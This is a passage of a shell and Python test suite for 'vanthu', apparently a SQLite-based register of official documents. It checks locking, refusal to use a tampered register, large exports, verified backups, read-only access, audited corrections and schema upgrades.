                       preexec_fn=lambda: signal.signal(signal.SIGPIPE, signal.SIG_IGN))
    os.close(w)
    assert p.returncode == 0 and p.stderr == b"", (args, p.returncode, p.stderr)
PY
ok "a reader that goes away early is no error, even with SIGPIPE ignored" $?

# 14: a locked database
hold_write 4
vt -w 1 assign den/2026/1 --lead X >"$tmp/act" 2>&1
echo "vanthu: assign: database is locked by another process (waited 1.0 s)" >"$tmp/exp"
same "a locked database is reported, not waited for forever" "$tmp/exp" "$tmp/act"
vt list --book den | cut -f1 | tr '\n' ' ' >"$tmp/act"
printf 'den/2026/1 den/2026/2 den/2026/3 ' >"$tmp/exp"
same "readers are not blocked by a writer" "$tmp/exp" "$tmp/act"
wait $holder
# A register not in WAL mode yet (a copy made with another tool) is
# switched to it when a writer opens it, which needs the file to itself:
# -w bounds that wait too.
cp "$tmp/register.sqlite" "$tmp/rollback.sqlite"
sqlite3 "$tmp/rollback.sqlite" "PRAGMA journal_mode = DELETE" >/dev/null
hold_write 4 "" "$tmp/rollback.sqlite"
t0=$(date +%s%N)
"$V" -c "$tmp/vanthu.conf" -d "$tmp/rollback.sqlite" -w 1 assign den/2026/1 --lead X >"$tmp/act" 2>&1
rc=$?
ms=$((($(date +%s%N) - t0) / 1000000))
[ $rc -eq 1 ] && [ $ms -lt 3000 ] &&
	grep -q "database is locked by another process (waited 1.0 s)" "$tmp/act"
ok "-w bounds the wait of the open too: a register another process holds fails in 1 s (took $ms ms)" $?
wait $holder

# 15: a register someone tampered with is not exported or numbered on
cp "$tmp/register.sqlite" "$tmp/tampered.sqlite"
sqlite3 "$tmp/tampered.sqlite" "INSERT INTO registrations(book, year, number,
    registered_at, document_id, message_id) VALUES('den', 2026, 5, 0, 1, 1)"
"$V" -d "$tmp/tampered.sqlite" export --book den --year 2026 --format csv >"$tmp/act" 2>&1
echo "vanthu: export: register den/2026 is not complete: number 4 is missing" >"$tmp/exp"
same "an incoming register with a gap is not exported" "$tmp/exp" "$tmp/act"
mkdir -p "$tmp/exp15"
vt export --book den --year 2026 --format csv -o "$tmp/exp15/so.csv" &&
	vt export --book den --year 2026 --format xlsx -o "$tmp/exp15/so.xlsx" &&
	cp "$tmp/exp15/so.csv" "$tmp/exp15/so.csv.good" && cp "$tmp/exp15/so.xlsx" "$tmp/exp15/so.xlsx.good"
t=0
for f in csv html xlsx; do
	[ $f = html ] && cp "$tmp/exp15/so.csv.good" "$tmp/exp15/so.html"
	"$V" -d "$tmp/tampered.sqlite" export --book den --year 2026 --format $f -o "$tmp/exp15/so.$f" 2>/dev/null && t=1
done
vt export --book den --year 2026 --format pdf -o "$tmp/exp15/so.csv" 2>/dev/null && t=1
vt export --book nosuch --year 2026 --format xlsx -o "$tmp/exp15/so.xlsx" 2>/dev/null && t=1
cmp -s "$tmp/exp15/so.csv" "$tmp/exp15/so.csv.good" || t=1
cmp -s "$tmp/exp15/so.html" "$tmp/exp15/so.csv.good" || t=1
cmp -s "$tmp/exp15/so.xlsx" "$tmp/exp15/so.xlsx.good" || t=1
[ "$(ls "$tmp/exp15" | wc -l)" -eq 5 ] || t=1
ok "an export that fails leaves the file of the last one as it was, and no other file" $t
t=0
for f in html xlsx; do
	"$V" -d "$tmp/tampered.sqlite" export --book den --year 2026 --format $f >"$tmp/act" 2>/dev/null && t=1
	[ -s "$tmp/act" ] && t=1
done
ok "an export to standard output that fails writes nothing there, in every format" $t

# 16: a big register: 100,000 more entries, listed and exported row by
# row.  Memory must not grow with the register (it held every row before).
cp "$tmp/register.sqlite" "$tmp/big.sqlite"
last=$(sqlite3 "$tmp/big.sqlite" "SELECT max(number) FROM registrations WHERE book = 'den' AND year = 2026")
sqlite3 "$tmp/big.sqlite" "WITH RECURSIVE k(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM k WHERE i < 100000)
    INSERT INTO registrations(book, year, number, registered_at, document_id, message_id,
        reference, issuer, doc_date, type_name, summary)
    SELECT 'den', 2026, $last + i, r.registered_at, r.document_id, r.message_id,
        i || '/UBND-VP', r.issuer, r.doc_date, r.type_name, 'Về việc số ' || i
    FROM k, registrations r WHERE r.book = 'den' AND r.year = 2026 AND r.number = 1"
VANTHU=$V python3 - "$tmp/big.sqlite" "$tmp" "$last" <<'PY'
import csv, json, os, resource, subprocess, sys, zipfile
db, tmp, last = sys.argv[1], sys.argv[2], int(sys.argv[3])
total = last + 100000
for fmt in ("csv", "xlsx"):
    subprocess.run([os.environ["VANTHU"], "-d", db, "export", "--book", "den",
                    "--year", "2026", "--format", fmt, "-o",
                    os.path.join(tmp, "big." + fmt)], check=True)
for args, name in ((["list"], "big.txt"), (["list", "--json"], "big.json")):
    with open(os.path.join(tmp, name), "w") as out:
        subprocess.run([os.environ["VANTHU"], "-d", db] + args, stdout=out, check=True)
# The biggest child so far, taken before this process grows: a child's
# RSS counts what it shared with its parent until its exec.
mb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
print("# the lists' and exports' peak RSS: %.1f MB" % mb)
rows = list(csv.reader(open(os.path.join(tmp, "big.csv"), encoding="utf-8-sig", newline="")))
assert len(rows) == total + 1, len(rows)
assert [int(r[1]) for r in rows[1:]] == list(range(1, total + 1))
assert rows[-1][3] == "100000/UBND-VP" and rows[-1][5].endswith("Về việc số 100000"), rows[-1]
sheet = zipfile.ZipFile(os.path.join(tmp, "big.xlsx")).read("xl/worksheets/sheet1.xml")
assert sheet.count(b"<row ") == total + 1, sheet.count(b"<row ")
assert b"100000/UBND-VP" in sheet
lines = open(os.path.join(tmp, "big.txt"), encoding="utf-8").read().splitlines()
assert len(lines) == total + 1, len(lines)      # the outgoing book's entry too
assert lines[total - 1].startswith("den/2026/%d\t" % total), lines[total - 1]
entries = json.load(open(os.path.join(tmp, "big.json"), encoding="utf-8"))
assert [e["number"] for e in entries if e["book"] == "den"] == list(range(1, total + 1))
assert entries[total - 1]["reference"] == "100000/UBND-VP", entries[total - 1]
# Sanitizers keep freed memory in quarantine: there only the rows count.
assert os.environ.get("VANTHU_SANITIZED") == "1" or mb < 40, mb
PY
ok "a register of 100,000 entries lists (text, JSON) and exports (CSV, XLSX) whole, in number order, each in under 40 MB" $?
"$LOAD" -d "$tmp/tampered.sqlite" -n 1 -p late -T 1772416800 >"$tmp/act" 2>&1
grep -q "register den/2026 is inconsistent: counter at 3 but last number 5" "$tmp/act"
ok "numbering stops rather than skip or repeat a number in a tampered register" $?

# 16: backup (the document section 7 damaged made whole again first)
printf 'sample four' >"$tmp/spool/$(echo "$sha" | cut -c1-2)/$(echo "$sha" | cut -c3-4)/$sha"
vt backup "$tmp/bk" >"$tmp/act" 2>&1
echo "rc=$?" >>"$tmp/act"
printf '%s/bk/register.sqlite: the register; 4 documents: 4 copied, 0 there already\nrc=0\n' \
	"$tmp" >"$tmp/exp"
same "backup copies the register and its four numbered documents" "$tmp/exp" "$tmp/act"
sqlite3 "$tmp/register.sqlite" .dump >"$tmp/exp"
sqlite3 "$tmp/bk/register.sqlite" .dump >"$tmp/act"
same "the copy holds what the register holds (sqlite3 .dump of both)" "$tmp/exp" "$tmp/act"
[ "$(sqlite3 "$tmp/bk/register.sqlite" "PRAGMA integrity_check; PRAGMA journal_mode" | tr '\n' ' ')" = "ok delete " ] &&
	[ ! -e "$tmp/bk/register.sqlite-wal" ] && [ ! -e "$tmp/bk/register.sqlite.part" ]
ok "the copy is one sound file, no journal or part left beside it" $?
{ vt list --json; vt list --status cancelled --json; } |
	python3 -c 'import json, sys
d = json.JSONDecoder(); s = sys.stdin.read().strip(); out = set()
while s:
    v, i = d.raw_decode(s); out |= {e["sha256"] for e in v}; s = s[i:].strip()
print("\n".join(sorted(out)))' >"$tmp/exp"
(cd "$tmp/bk" && find . -type f -path './??/??/*' | sort | while read -r f; do
	[ "$(sha256sum <"$f" | cut -c1-64)" = "${f##*/}" ] && [ "${f#./}" = "$(echo "${f##*/}" | cut -c1-2)/$(echo "${f##*/}" | cut -c3-4)/${f##*/}" ] &&
		echo "${f##*/}"
done | sort) >"$tmp/act"
same "each document a registration points to is in the backup under ab/cd/sha256, its bytes hashing to its name" \
	"$tmp/exp" "$tmp/act"
echo "half a copy from a backup that died" >"$tmp/bk/register.sqlite.part"
vt backup "$tmp/bk" >"$tmp/act" 2>&1
printf '%s/bk/register.sqlite: the register; 4 documents: 0 copied, 4 there already\n' "$tmp" >"$tmp/exp"
same "a second backup into the same directory copies only what is new" "$tmp/exp" "$tmp/act"
[ ! -e "$tmp/bk/register.sqlite.part" ] && [ "$(sqlite3 "$tmp/bk/register.sqlite" "PRAGMA integrity_check")" = ok ]
ok "and replaces what a dead backup left" $?
# Reading a copy before restoring it must leave it as it is: a reader
# never switches it to WAL nor leaves a -wal or -shm beside it.
cp "$tmp/bk/register.sqlite" "$tmp/look.sqlite"
sum=$(sha256sum <"$tmp/look.sqlite")
t=0
for c in "list" "list --json" "search quyet dinh" "show den/2026/1" "stats" "books" \
    "export --book den --year 2026 --format csv"; do
	# shellcheck disable=SC2086
	"$V" -c "$tmp/vanthu.conf" -d "$tmp/look.sqlite" $c >/dev/null 2>"$tmp/act" || t=1
	[ -s "$tmp/act" ] && t=1
done
[ "$(sha256sum <"$tmp/look.sqlite")" = "$sum" ] && [ ! -e "$tmp/look.sqlite-wal" ] &&
	[ ! -e "$tmp/look.sqlite-shm" ] && [ $t -eq 0 ]
ok "list, search, show, stats, books and export leave a copy of the register byte for byte as it was" $?
cp "$tmp/bk/register.sqlite" "$tmp/ro.sqlite"
chmod 0444 "$tmp/ro.sqlite"
# as_reader CMD...: CMD as a user who may read the register but write
# nothing beside it: nobody when the suite runs as root, else the user
# running it (the files are then made read-only instead).
as_reader() {
	if [ "$(id -u)" -eq 0 ]; then
		setpriv --reuid=nobody --regid=nogroup --clear-groups -- "$@"
	else
		"$@"
	fi
}
chmod 0711 "$tmp"
as_reader "$V" -c "$tmp/vanthu.conf" -d "$tmp/ro.sqlite" list >"$tmp/act" 2>&1 &&
	vt list | cmp -s - "$tmp/act"
ok "a register the clerk may only read lists" $?
# The live register is in WAL mode, where a reader needs the -shm file.
# Its writers keep -wal and -shm when they close, so a clerk who may
# only read it (not its directory) can still list it while the daemon
# is stopped, and while a writer has it open.
mkdir "$tmp/live"
cp "$tmp/register.sqlite" "$tmp/live/"
"$V" -c "$tmp/vanthu.conf" -d "$tmp/live/register.sqlite" assign den/2026/2 --notes "đã chuyển" >/dev/null 2>&1
[ -e "$tmp/live/register.sqlite-wal" ] && [ -e "$tmp/live/register.sqlite-shm" ] &&
	[ "$(stat -c '%a %s' "$tmp/live/register.sqlite-wal" "$tmp/live/register.sqlite-shm" | tr '\n' ' ')" = "644 0 644 32768 " ]
ok "a writer that closes the register leaves its -wal (empty) and -shm, mode 0644 as the register" $?
[ "$(id -u)" -eq 0 ] || chmod 0555 "$tmp/live"
# The clerk first: a reader that may write beside the register makes a
# missing -shm itself.
as_reader "$V" -c "$tmp/vanthu.conf" -d "$tmp/live/register.sqlite" list >"$tmp/act" 2>&1
vt -d "$tmp/live/register.sqlite" list >"$tmp/exp" 2>&1
cmp -s "$tmp/exp" "$tmp/act" && grep -q . "$tmp/act"
ok "a clerk who may only read a WAL register lists it with no writer running" $?
[ -s "$tmp/act" ] && ! cmp -s "$tmp/exp" "$tmp/act" && sed 's/^/# /' "$tmp/act" | head -5
as_reader "$V" -c "$tmp/vanthu.conf" -d "$tmp/live/register.sqlite" show den/2026/2 2>&1 | grep -q 'đã chuyển'
ok "and sees what the last writer committed" $?
hold_write 3 "UPDATE registrations SET notes = 'chưa xong' WHERE number = 2" "$tmp/live/register.sqlite"
as_reader "$V" -c "$tmp/vanthu.conf" -d "$tmp/live/register.sqlite" show den/2026/2 >"$tmp/act" 2>&1 &&
	grep -q 'đã chuyển' "$tmp/act" && ! grep -q 'chưa xong' "$tmp/act"
ok "and reads the last commit while a writer holds the register open, not its uncommitted change" $?
wait "$holder"
[ "$(id -u)" -eq 0 ] || chmod 0755 "$tmp/live"
chmod 0700 "$tmp"

mkdir -p "$tmp/restored/spool" "$tmp/restored/out"
cp "$tmp/bk/register.sqlite" "$tmp/restored/"
cp -a "$tmp/bk"/?? "$tmp/restored/spool/"
printf 'Database %s\nSpool %s\n' "$tmp/restored/register.sqlite" "$tmp/restored/spool" >"$tmp/restored.conf"
"$V" -c "$tmp/restored.conf" list >"$tmp/act" 2>&1 && vt list >"$tmp/exp" &&
	"$V" -c "$tmp/restored.conf" get den/2026/3 -o "$tmp/restored/out" >/dev/null &&
	[ "$(cat "$tmp/restored/out/Kế hoạch 90.docx")" = "sample four" ] && cmp -s "$tmp/exp" "$tmp/act"
ok "a register restored as vanthu(1) says lists the same and gives back its documents" $?

cp -a "$tmp/spool" "$tmp/spool2"
dmg=$(sqlite3 "$tmp/register.sqlite" "SELECT sha256 FROM documents d JOIN registrations r ON r.document_id = d.id WHERE r.number = 2")
dmgf=$tmp/spool2/$(echo "$dmg" | cut -c1-2)/$(echo "$dmg" | cut -c3-4)/$dmg
printf 'X' | dd of="$dmgf" bs=1 seek=100 conv=notrunc 2>/dev/null
got=$(sha256sum <"$dmgf" | cut -c1-64)
sed "s|^Spool .*|Spool    $tmp/spool2|" "$tmp/vanthu.conf" >"$tmp/spool2.conf"
"$V" -c "$tmp/spool2.conf" backup "$tmp/bk2" >"$tmp/act" 2>&1
echo "rc=$?" >>"$tmp/act"
{
	echo "vanthu: backup: $dmgf: damaged in the spool (SHA-256 $got, registered $dmg)"
	echo "$tmp/bk2/register.sqlite: the register; 4 documents: 3 copied, 0 there already, 1 not copied"
	echo "rc=1"
} >"$tmp/exp"
same "a document whose bytes no longer match its name is reported and not copied" "$tmp/exp" "$tmp/act"
[ "$(find "$tmp/bk2" -type f | wc -l)" -eq 4 ] && [ ! -e "$tmp/bk2/$(echo "$dmg" | cut -c1-2)/$(echo "$dmg" | cut -c3-4)/$dmg" ]
ok "the backup holds the register and the three sound documents, nothing of the damaged one" $?

hold_write 2 "INSERT INTO audit(at, actor, action, detail) VALUES(0, 'test', 'pending', 'not committed')"
vt -w 1 backup "$tmp/bk3" >"$tmp/act" 2>&1 &&
	[ "$(sqlite3 "$tmp/bk3/register.sqlite" "SELECT count(*) FROM audit WHERE action = 'pending'")" = 0 ]
ok "a backup runs while a writer holds the register, and copies only what is committed" $?
wait $holder

# 17: den/2026/1 again, other bytes: a PDF signed in a .p7s beside it
"$LOAD" -d "$tmp/register.sqlite" -s "$tmp/spool" -L >"$tmp/act" 2>&1
echo "<s7@bnv.gov.vn> duplicate den/2026/1" >"$tmp/exp"
same "a copy with other bytes and the same number, symbol and issuer is an arrival of the entry" "$tmp/exp" "$tmp/act"
c7=$(printf 'sample one, signed' | sha256sum | cut -c1-64)
p7=$(printf 'sample one, its signature' | sha256sum | cut -c1-64)
tag=$(echo "$c7" | cut -c1-8)
vt show den/2026/1 >"$tmp/act" 2>&1
grep -qxF "  2026-03-09 09:00:00 duplicate <s7@bnv.gov.vn> from vanthu@example.gov.vn: another file, Quyết định 15.pdf (SHA-256 $c7), signature valid" "$tmp/act" &&
	grep -qx "SHA-256: e05b711b8438f1a9c13dfbbaddc24f6411fac2c00fa319d423f6b13fdc91e07c" "$tmp/act"
ok "show names the copy on its arrival line; the entry's file stays the first" $?
mkdir -p "$tmp/out7"
vt get den/2026/1 -o "$tmp/out7" >"$tmp/act" 2>&1
printf '%s\n' "$tmp/out7/Quyết định 15.signed.pdf" "$tmp/out7/Quyết định 15-$tag.pdf" \
	"$tmp/out7/Quyết định 15-$tag.pdf.p7s" >"$tmp/exp"
same "get writes the entry's file, then the copy and its .p7s, named with the copy's SHA-256" "$tmp/exp" "$tmp/act"
t=0
[ "$(cat "$tmp/out7/Quyết định 15.signed.pdf")" = "sample one" ] || t=1
[ "$(cat "$tmp/out7/Quyết định 15-$tag.pdf")" = "sample one, signed" ] || t=1
[ "$(cat "$tmp/out7/Quyết định 15-$tag.pdf.p7s")" = "sample one, its signature" ] || t=1
[ "$(ls "$tmp/out7" | wc -l)" -eq 3 ] || t=1
ok "each file holds its own bytes, and nothing else is written" $t
# A name that holds the whole summary, longer than get keeps: cut, each
# file keeps its extension and the .p7s follows its document's name.
long="Quyết định số 1234 của Ủy ban nhân dân tỉnh Bình Định về việc phê duyệt kế hoạch chuyển đổi số năm 2026 và định hướng đến năm 2030 của các cơ quan, đơn vị trực thuộc"
cp "$tmp/register.sqlite" "$tmp/long.sqlite"
sqlite3 "$tmp/long.sqlite" "UPDATE documents SET name = '$long.pdf' WHERE sha256 IN ('$c7', 'e05b711b8438f1a9c13dfbbaddc24f6411fac2c00fa319d423f6b13fdc91e07c');
    UPDATE arrivals SET name = '$long.pdf' WHERE sha256 = '$c7';
    UPDATE signatures SET file_name = '$long.pdf.p7s' WHERE file_sha256 = '$p7'"
stem=$(python3 -c 'import sys; print(sys.argv[1].encode()[:196].decode(errors="ignore"))' "$long")
mkdir -p "$tmp/outlong"
"$V" -c "$tmp/vanthu.conf" -d "$tmp/long.sqlite" get den/2026/1 -o "$tmp/outlong" >"$tmp/act" 2>&1
echo "rc=$?" >>"$tmp/act"
printf '%s\n' "$tmp/outlong/$stem.pdf" "$tmp/outlong/$stem-$tag.pdf" "$tmp/outlong/$stem-$tag.pdf.p7s" rc=0 >"$tmp/exp"
same "get cuts a long name before its extension, and the .p7s still follows its document" "$tmp/exp" "$tmp/act"
[ "$(cat "$tmp/outlong/$stem-$tag.pdf.p7s")" = "sample one, its signature" ]
ok "the cut .p7s holds the signature" $?

vt backup "$tmp/bk" >"$tmp/act" 2>&1
printf '%s/bk/register.sqlite: the register; 6 documents: 2 copied, 4 there already\n' "$tmp" >"$tmp/exp"
same "backup takes the copy and its .p7s too" "$tmp/exp" "$tmp/act"
t=0
for h in "$c7" "$p7"; do
	f=$tmp/bk/$(echo "$h" | cut -c1-2)/$(echo "$h" | cut -c3-4)/$h
	[ "$(sha256sum <"$f" | cut -c1-64)" = "$h" ] || t=1
done
ok "the backup holds both under ab/cd/sha256, their bytes hashing to their names" $t

# A register of schema version 2 kept the rules' flags in the notes, where
# a clerk's assign --notes replaced them.  Opening it for writing moves the
# notes of entries never assigned (only the daemon wrote those) to flags;
# an assigned entry's notes may be the clerk's and stay.
cp "$tmp/register.sqlite" "$tmp/v2.sqlite"
sqlite3 "$tmp/v2.sqlite" "DROP TABLE corrections; DROP TABLE fix_fts;
    ALTER TABLE registrations DROP COLUMN flags;
    UPDATE registrations SET notes = 'signature-absent', assigned_at = NULL WHERE number = 2 AND book = 'den';
    UPDATE registrations SET notes = 'Chuyển gấp', assigned_at = 1767225600 WHERE number = 3 AND book = 'den';
    PRAGMA user_version = 2"
"$V" -c "$tmp/vanthu.conf" -d "$tmp/v2.sqlite" assign den/2026/2 --notes "Phòng Tổ chức xử lý" >/dev/null 2>"$tmp/act"
sqlite3 "$tmp/v2.sqlite" "PRAGMA user_version; SELECT number, flags, notes FROM registrations WHERE book = 'den' AND number IN (2, 3) ORDER BY number" >>"$tmp/act"
cat >"$tmp/exp" <<'EXP'
4
2|signature-absent|Phòng Tổ chức xử lý
3||Chuyển gấp
EXP
same "an older register's flags move out of the notes, and a clerk's notes no longer replace them" "$tmp/exp" "$tmp/act"
"$V" -c "$tmp/vanthu.conf" -d "$tmp/v2.sqlite" show den/2026/2 | grep -E '^(Flags|Notes):' >"$tmp/act"
printf 'Flags: signature-absent\nNotes: Phòng Tổ chức xử lý\n' >"$tmp/exp"
same "show prints the flags and the clerk's notes apart" "$tmp/exp" "$tmp/act"
"$V" -c "$tmp/vanthu.conf" -d "$tmp/v2.sqlite" export --book den --year 2026 --format csv |
	python3 -c 'import csv, sys
rows = list(csv.reader(sys.stdin.read().lstrip("\ufeff").splitlines()))
print(rows[2][-1])' >"$tmp/act"
echo "signature-absent; Phòng Tổ chức xử lý" >"$tmp/exp"
same "the export's Ghi chú holds the flags, then the clerk's notes" "$tmp/exp" "$tmp/act"

# 18: correct.  A fresh sample register: the clerk sets right what the
# daemon read wrong; the number stays, the old values are kept, the
# export, the search and the duplicate check follow the new ones.
mkdir -p "$tmp/cspool"
"$LOAD" -d "$tmp/c.sqlite" -s "$tmp/cspool" -S >/dev/null 2>&1
vc() { "$V" -c "$tmp/vanthu.conf" -d "$tmp/c.sqlite" "$@"; }
vc correct den/2026/2 --summary ' Về việc gửi, nhận văn bản điện tử trên mạng ' \
	--urgency 'thuong khan' --type qd --reason 'Đọc sai trích yếu' >"$tmp/act" 2>&1
t=$?
echo "den/2026/2 corrected" >"$tmp/exp"
cmp -s "$tmp/exp" "$tmp/act" && [ $t -eq 0 ]
ok "correct changes an entry and says so" $?
vc show den/2026/2 | grep -E '^(Registration|Type|Summary|Urgency):|^  (summary|type_name):' >"$tmp/act"
cat >"$tmp/exp" <<'EXP'
Registration: den/2026/2
Type: Quyết định
Summary: Về việc gửi, nhận văn bản điện tử trên mạng
Urgency: THƯỢNG KHẨN
  summary: Về việc gửi, nhận văn bản điện tử, "khẩn" [text, 70]
  type_name: Công văn [text, 90]
EXP
same "show prints the corrected fields, in the daemon's forms, and the facts as they were read" "$tmp/exp" "$tmp/act"
vc show den/2026/2 | sed -n '/^Corrections:/,/^History:/p' |
	sed -E 's/^  [0-9]{4}-[0-9]{2}-[0-9]{2} [0-9:]{8} /  T /' >"$tmp/act"
cat >"$tmp/exp" <<EXP
Corrections:
  T $me type: Đọc sai trích yếu
    was: Công văn
    now: Quyết định
  T $me type_code: Đọc sai trích yếu
    was: (none)
    now: QĐ
  T $me summary: Đọc sai trích yếu
    was: Về việc gửi, nhận văn bản điện tử, "khẩn"
    now: Về việc gửi, nhận văn bản điện tử trên mạng
  T $me urgency: Đọc sai trích yếu
    was: (none)
    now: THƯỢNG KHẨN
History:
EXP
same "show keeps each corrected field's old and new value with the reason" "$tmp/exp" "$tmp/act"
sqlite3 "$tmp/c.sqlite" "SELECT actor || ' ' || action || ' ' || detail FROM audit WHERE action = 'correct'" >"$tmp/act"
echo "$me correct $V -c $tmp/vanthu.conf -d $tmp/c.sqlite correct den/2026/2 --summary ' Về việc gửi, nhận văn bản điện tử trên mạng ' --urgency 'thuong khan' --type qd --reason 'Đọc sai trích yếu'" >"$tmp/exp"
same "the audit log keeps the correcting command" "$tmp/exp" "$tmp/act"
t=0
[ "$(vc search tren mang | cut -f1)" = "den/2026/2" ] || t=1
[ "$(vc search 'trên mạng' 'hồ chí minh' | cut -f1)" = "den/2026/2" ] || t=1
[ "$(vc search 'văn bản điện tử' | cut -f1)" = "den/2026/2" ] || t=1
[ "$(vc list --type QĐ --book den | cut -f1 | tr '\n' ' ')" = "den/2026/1 den/2026/2 " ] || t=1
ok "search finds the corrected words, with the entry's other words, and list filters by the corrected type" $t
vc export --book den --year 2026 --format csv | python3 -c 'import csv, sys
rows = list(csv.reader(sys.stdin.read().lstrip("\ufeff").splitlines()))
print(rows[2][1], rows[2][5], sep="|")' >"$tmp/act"
echo "2|Quyết định: Về việc gửi, nhận văn bản điện tử trên mạng" >"$tmp/exp"
same "the export prints the corrected entry under its own number" "$tmp/exp" "$tmp/act"
vc correct den/2026/2 --summary 'Về việc gửi, nhận văn bản điện tử trên mạng' --reason again >"$tmp/act" 2>&1
t=$?
echo "vanthu: correct: den/2026/2 already reads so: nothing corrected" >"$tmp/exp"
cmp -s "$tmp/exp" "$tmp/act" && [ $t -eq 1 ] &&
	[ "$(sqlite3 "$tmp/c.sqlite" "SELECT count(*) FROM corrections; SELECT count(*) FROM audit WHERE action = 'correct'")" = "$(printf '4\n1')" ]
ok "a correction that changes nothing is refused and leaves no trace" $?
# A reference and issuer set right make the entry the one a later copy
# of that document arrives as: den/2026/1 is cancelled, den/2026/3 now
# reads 15/QĐ-BNV of BỘ NỘI VỤ, and the copy of the first sample finds it.
vc cancel den/2026/1 --reason 'Nhập nhầm' >/dev/null 2>&1
vc correct den/2026/3 --reference '015 / QĐ-BNV' --issuer 'BỘ NỘI VỤ' --date 2026-02-27 \
	--urgency '' --reason 'Đọc sai số, ký hiệu' >"$tmp/act" 2>"$tmp/err"
t=$?
echo "den/2026/3 corrected" >"$tmp/exp"
cmp -s "$tmp/exp" "$tmp/act" && [ $t -eq 0 ] && [ ! -s "$tmp/err" ] &&
	[ "$(vc show den/2026/3 | grep -E '^(Reference|Issuer|Date|Urgency):')" = "$(printf 'Reference: 015/QĐ-BNV\nIssuer: BỘ NỘI VỤ\nDate: 2026-02-27')" ]
ok "correct sets a reference without its blanks, an issuer and a date, and clears a field given empty" $?
"$LOAD" -d "$tmp/c.sqlite" -s "$tmp/cspool" -L >"$tmp/act" 2>&1
echo "<s7@bnv.gov.vn> duplicate den/2026/3" >"$tmp/exp"
same "a later copy with the corrected number, symbol and issuer arrives as the corrected entry" "$tmp/exp" "$tmp/act"
cp "$tmp/c.sqlite" "$tmp/c2.sqlite"
sqlite3 "$tmp/c2.sqlite" "UPDATE registrations SET status = 'registered', cancel_reason = NULL WHERE id = 1"
"$V" -c "$tmp/vanthu.conf" -d "$tmp/c2.sqlite" correct den/2026/3 --signer 'Trần Văn B' \
	--issuer 'Bộ Nội vụ' --reason 'Tên cơ quan' >"$tmp/act" 2>&1
printf '%s\n' "den/2026/3 corrected" \
	"vanthu: correct: warning: den/2026/1 has the same number, symbol and issuer" >"$tmp/exp"
same "correct warns when the entry now reads as another registered one" "$tmp/exp" "$tmp/act"
"$V" -c "$tmp/vanthu.conf" -d "$tmp/c2.sqlite" correct den/2026/3 --summary 'Về việc ban hành Quy chế' \
	--reason 'Trích yếu' >"$tmp/act" 2>&1
echo "den/2026/3 corrected" >"$tmp/exp"
same "a correction that leaves number, symbol, issuer and date as they were gives no such warning" "$tmp/exp" "$tmp/act"
t=0
for c in "di/2026/101/QĐ-UBND --reference 1/QĐ-UBND|1|vanthu: correct: di/2026/101/QĐ-UBND is in an outgoing book, where the number and symbol name the entry: cancel it instead" \
	 "den/2026/1 --summary X|1|vanthu: correct: den/2026/1 is cancelled" \
	 "den/2026/9 --summary X|1|vanthu: correct: no registration den/2026/9" \
	 "den/2026/2 --type XX|1|vanthu: correct: unknown type 'XX': give a code or a name of ND30's list, such as QĐ or Công văn" \
	 "den/2026/2 --urgency gấp|1|vanthu: correct: unknown urgency 'gấp': HỎA TỐC, THƯỢNG KHẨN or KHẨN, or \"\" for none" \
	 "den/2026/2 --date 2026-02-30|2|vanthu: correct: bad date '2026-02-30': expected YYYY-MM-DD"; do
	args=${c%%|*}
	rest=${c#*|}
	want_rc=${rest%%|*}
	want=${rest#*|}
	# shellcheck disable=SC2086
	got=$(vc correct $args --reason x 2>&1)
	rc=$?
	if [ "$got" != "$want" ] || [ $rc -ne "$want_rc" ]; then
		echo "# correct $args: status $rc: $got"
		t=1
	fi
done
got=$(vc correct den/2026/2 --summary "$(printf 'Về việc\tgửi')" --reason x 2>&1)
[ "$got" = "vanthu: correct: the summary is 1 to 2000 bytes of text on one line" ] || t=1
got=$(vc correct den/2026/2 --summary X 2>&1)
[ $? -eq 2 ] && [ "$got" = "vanthu: correct: usage: vanthu correct ID [--reference REF] [--issuer NAME] [--date DATE] [--type T] [--summary TEXT] [--urgency U] [--signer NAME] --reason TEXT" ] || t=1
[ "$(sqlite3 "$tmp/c.sqlite" "SELECT count(*) FROM corrections")" = 7 ] || t=1
ok "correct refuses an outgoing entry's reference, a cancelled or missing entry, unknown values and a missing reason, writing nothing" $t
t=0
sqlite3 "$tmp/c.sqlite" "UPDATE corrections SET new = 'x'" 2>/dev/null && t=1
sqlite3 "$tmp/c.sqlite" "DELETE FROM corrections" 2>/dev/null && t=1
[ "$(sqlite3 "$tmp/c.sqlite" "SELECT count(*) FROM corrections WHERE new IS NOT 'x'")" = 7 ] || t=1
ok "corrections are kept as made: the register refuses to change or delete them" $t
# A register of schema version 3 gets the table on its first writing open.
cp "$tmp/register.sqlite" "$tmp/v3.sqlite"
sqlite3 "$tmp/v3.sqlite" "DROP TABLE corrections; DROP TABLE fix_fts; PRAGMA user_version = 3"
"$V" -c "$tmp/vanthu.conf" -d "$tmp/v3.sqlite" correct den/2026/2 --signer 'Lê Thị C' --reason 'Người ký' >"$tmp/act" 2>&1
sqlite3 "$tmp/v3.sqlite" "PRAGMA user_version; SELECT field, old, new FROM corrections" >>"$tmp/act"
printf '%s\n' "den/2026/2 corrected" 4 "signer||Lê Thị C" >"$tmp/exp"
same "an older register is upgraded and takes corrections" "$tmp/exp" "$tmp/act"

echo "1..$n"
[ $fails -eq 0 ]
